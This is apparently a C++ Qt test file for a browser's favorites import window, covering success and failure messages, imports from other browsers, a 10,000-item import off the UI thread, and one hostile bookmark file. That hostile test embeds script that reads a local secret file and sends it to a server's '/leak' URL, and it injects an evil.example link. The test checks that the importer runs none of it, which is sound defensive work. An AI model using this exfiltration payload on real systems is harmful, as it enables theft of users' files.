// The import and export window's import: the messages, who is told to rebuild, a manager that
// shows what was imported from it, a hostile file, and a large file imported off the UI thread.
#include "common/AnsiCodec.h"
#include "common/Messages.h"
#include "support/ModalAnswerer.h"
#include "favorites/BookmarkFile.h"
#include "favorites/FavoriteListModel.h"
#include "favorites/Favorites.h"
#include "favorites/FormImportExportFav.h"
#include "favorites/FormManageFav.h"
#include "support/EngineTestMain.h"
#include "support/TestDb.h"
#include "support/TestServer.h"

#include <QSignalSpy>

namespace {

// Counts the window messages it receives.
class TMessageSink final : public QObject {
public:
    QList<int> Received;

protected:
    void customEvent(QEvent* event) override { Received.append(static_cast<int>(event->type())); }
};

// A bookmark file with favorites A and B, written by the export of another data file.
QString ExportedFile(const QString& folder) {
    TTestDb source;
    TFavorites favorites(source.Db());
    favorites.AddFavorite("A", "http://a/", "1");
    favorites.AddFavorite("B", "http://b/", "2");
    const QString file = folder + QStringLiteral("/bookmarks.html");
    return ExportFavorites(favorites, file) ? file : QString();
}

QString WriteFile(const QString& path, const QByteArray& bytes) {
    QFile file(path);
    return file.open(QIODevice::WriteOnly) && file.write(bytes) == bytes.size() ? path : QString();
}

// The window, with the open dialog answering the file.
TFormImportExportFav* WindowFor(TFavorites& favorites, QObject* notify, const QString& file) {
    TFormImportExportFav* window = TFormImportExportFav::ShowWindow(favorites, notify);
    window->SetOpenFileChooser([file](QWidget*) { return file; });
    return window;
}

} // namespace

class TestFormImportExportFav : public QObject {
    Q_OBJECT
private slots:
    void initTestCase() { QStandardPaths::setTestModeEnabled(true); }

    void importTellsTheMainWindow() {
        TTestDb data;
        TFavorites favorites(data.Db());
        const QString file = ExportedFile(data.DirPath());
        QVERIFY(!file.isEmpty());
        TMessageSink mainWindow;
        TFormImportExportFav* window = TFormImportExportFav::ShowWindow(favorites, &mainWindow);
        QPointer<TFormImportExportFav> alive(window);
        // A cancelled file dialog starts nothing.
        window->SetOpenFileChooser([](QWidget*) { return QString(); });
        window->ImportClick();
        QVERIFY(window->isVisible());

        window->SetOpenFileChooser([file](QWidget*) { return file; });
        QSignalSpy finished(window, &TFormImportExportFav::importFinished);
        TModalAnswerer driver;
        window->ImportClick();
        QVERIFY(finished.wait(20000));
        QCOMPARE(finished.at(0).at(0).toBool(), true);
        QCOMPARE(driver.Messages, QStringList{QStringLiteral("收藏夹导入成功！")});
        QTRY_VERIFY(!alive);
        QTRY_COMPARE(mainWindow.Received, QList<int>{WM_FAVORITES_CHANGED});
        QVERIFY(favorites.LoadFavorites());
        QCOMPARE(favorites.Items.size(), 2);
    }

    // Another browser's file: the window asks whether to take it as a plain bookmark file and, on
    // yes, imports its links and says how many were taken and skipped.
    void otherBrowsersFileAfterAQuestion() {
        TTestDb data;
        TFavorites favorites(data.Db());
        const QString file = WriteFile(data.DirPath() + QStringLiteral("/firefox.html"),
                                       "<!DOCTYPE NETSCAPE-Bookmark-file-1>\n<DL><p>\n<DT><H3>F</H3>\n<DL><p>\n"
                                       "<DT><A HREF=\"http://a/\">A</A>\n<DT><A HREF=\"javascript:x()\">J</A>\n"
                                       "</DL><p>\n</DL><p>\n");
        TMessageSink mainWindow;
        TFormImportExportFav* window = WindowFor(favorites, &mainWindow, file);
        QSignalSpy finished(window, &TFormImportExportFav::importFinished);
        TModalAnswerer driver;
        driver.Answer = QMessageBox::Yes;
        window->ImportClick();
        QVERIFY(finished.wait(20000));
        QCOMPARE(driver.Messages, (QStringList{QStringLiteral("这不是本浏览器导出的收藏文件，是否按通用书签格式导入？"),
                                               QStringLiteral("已导入 1 个收藏，跳过 1 个重复或无效的链接。")}));
        QVERIFY(favorites.LoadFavorites());
        QCOMPARE(favorites.Items.size(), 1);
        QCOMPARE(favorites.Items.first().FavName, QStringLiteral("F/A"));
        QTRY_COMPARE(mainWindow.Received, QList<int>{WM_FAVORITES_CHANGED});
    }

    void failedImportKeepsTheWindow() {
        TTestDb data;
        TFavorites favorites(data.Db());
        const QString file = WriteFile(data.DirPath() + QStringLiteral("/empty.html"), {});
        TMessageSink mainWindow;
        TFormImportExportFav* window = WindowFor(favorites, &mainWindow, file);
        QSignalSpy finished(window, &TFormImportExportFav::importFinished);
        TModalAnswerer driver;
        window->ImportClick();
        QVERIFY(finished.wait(20000));
        QCOMPARE(driver.Messages, QStringList{QStringLiteral("收藏夹导入失败！")});
        QVERIFY(window->isVisible());
        QVERIFY(mainWindow.Received.isEmpty());
        window->close();
    }

    // Opened from the manager, an import reaches the manager's list, and the manager reports a
    // change so that the bar shows the imported favorites once it closes.
    void importFromTheManagerShowsInItsList() {
        TTestDb data;
        TFavorites favorites(data.Db());
        const QString file = ExportedFile(data.DirPath());
        TFormManageFav manager(favorites, {});
        manager.show();
        manager.ImportExportClick();
        TFormImportExportFav* window = TFormImportExportFav::Instance();
        QVERIFY(window);
        QCOMPARE(window->parentWidget(), &manager);
        window->SetOpenFileChooser([file](QWidget*) { return file; });
        QSignalSpy finished(window, &TFormImportExportFav::importFinished);
        TModalAnswerer driver;
        window->ImportClick();
        QVERIFY(finished.wait(20000));
        QTRY_COMPARE(manager.Model()->rowCount(), 2);
        QVERIFY(manager.Changed());
    }

    // A shared bookmark file is data: its script must not read the user's files, reach a server or
    // write links of its own, and its images are not fetched.
    void hostileFileRunsNothingAndLoadsNothing() {
        TTestDb data;
        TFavorites favorites(data.Db());
        TTestServer server;
        QVERIFY2(server.Running(), qPrintable(server.ErrorText()));
        const QString secret = WriteFile(data.DirPath() + QStringLiteral("/secret.txt"), "the user's secret");
        QVERIFY(QFile::setPermissions(secret, QFile::ReadOwner | QFile::WriteOwner));
        const QString script =
            QStringLiteral(
                "<script>var x = new XMLHttpRequest(); x.open('GET', '%1', false); x.send();"
                "new Image().src = '%2?' + encodeURIComponent(x.responseText);"
                "document.write('<DT><A HREF=\"http://evil.example/\" FAV_POS=\"1\" >evil</A>');</script>")
                .arg(QUrl::fromLocalFile(secret).toString(), server.Url("/leak"));
        const QString file = WriteFile(data.DirPath() + QStringLiteral("/bookmarks.html"),
                                       "<!DOCTYPE NETSCAPE-Bookmark-file-1>\r\n<DL><p>\r\n"
                                       "<DT><A HREF=\"http://a/\" FAV_POS=\"1\" >A</A>\r\n" +
                                           script.toUtf8() + "<img src=\"" + server.Url("/img").toUtf8() +
                                           "\">\r\n</DL><p>\r\n");
        TFormImportExportFav* window = WindowFor(favorites, nullptr, file);
        QSignalSpy finished(window, &TFormImportExportFav::importFinished);
        TModalAnswerer driver;
        window->ImportClick();
        QVERIFY(finished.wait(20000));
        QVERIFY(server.Stats().isEmpty());
        QVERIFY(favorites.LoadFavorites());
        QCOMPARE(favorites.Items.size(), 1);
        QCOMPARE(favorites.Items.at(0).FavUrl, QStringLiteral("http://a/"));
    }

    // 10,000 favorites are read, parsed and stored while the UI thread is busy elsewhere and never
    // returns to its event loop; the window then reports the import as usual.
    void largeFileImportsOffTheUiThread() {
        TTestDb data;
        TFavorites favorites(data.Db());
        constexpr int kCount = 10000;
        QByteArray bytes = "<!DOCTYPE NETSCAPE-Bookmark-file-1>\r\n<DL><p>\r\n";
        for (int i = 0; i < kCount; ++i)
            bytes += ToAnsi(
                QStringLiteral("<DT><A HREF=\"http://s%1.example/新闻\" FAV_POS=\"%1\" >收藏 %1 😀</A>\r\n")
                    .arg(i));
        bytes += "</DL><p>\r\n";
        TFormImportExportFav* window =
            WindowFor(favorites, nullptr, WriteFile(data.DirPath() + QStringLiteral("/large.html"), bytes));
        QSignalSpy finished(window, &TFormImportExportFav::importFinished);
        TModalAnswerer driver;
        window->ImportClick();
        const auto stored = [&data] {
            auto table = data.Db().Query(QStringLiteral("SELECT COUNT(*) AS n FROM qb_fav"));
            return table ? table->FieldAsInt64(QStringLiteral("n")) : -1;
        };
        QElapsedTimer bound;
        bound.start();
        while (stored() < kCount && bound.elapsed() < 120000)
            QThread::msleep(20);
        QCOMPARE(stored(), qint64(kCount));
        QVERIFY(finished.wait(20000));
        QCOMPARE(driver.Messages, QStringList{QStringLiteral("收藏夹导入成功！")});
        QVERIFY(favorites.LoadFavorites());
        QCOMPARE(favorites.Items.at(kCount - 1).FavName, QStringLiteral("收藏 9999 😀"));
        QCOMPARE(favorites.Items.at(kCount - 1).FavUrl, QStringLiteral("http://s9999.example/新闻"));
    }

    void manageLabelAsksTheMainWindow() {
        TTestDb data;
        TFavorites favorites(data.Db());
        TMessageSink mainWindow;
        QPointer<TFormImportExportFav> window = TFormImportExportFav::ShowWindow(favorites, &mainWindow);
        window->ManageClick();
        QTRY_VERIFY(!window);
        QTRY_COMPARE(mainWindow.Received, QList<int>{WM_MANAGE_FAVORITES});
    }
};

QUELLON_ENGINE_TEST_MAIN(TestFormImportExportFav)
#include "tst_FormImportExportFav.moc"
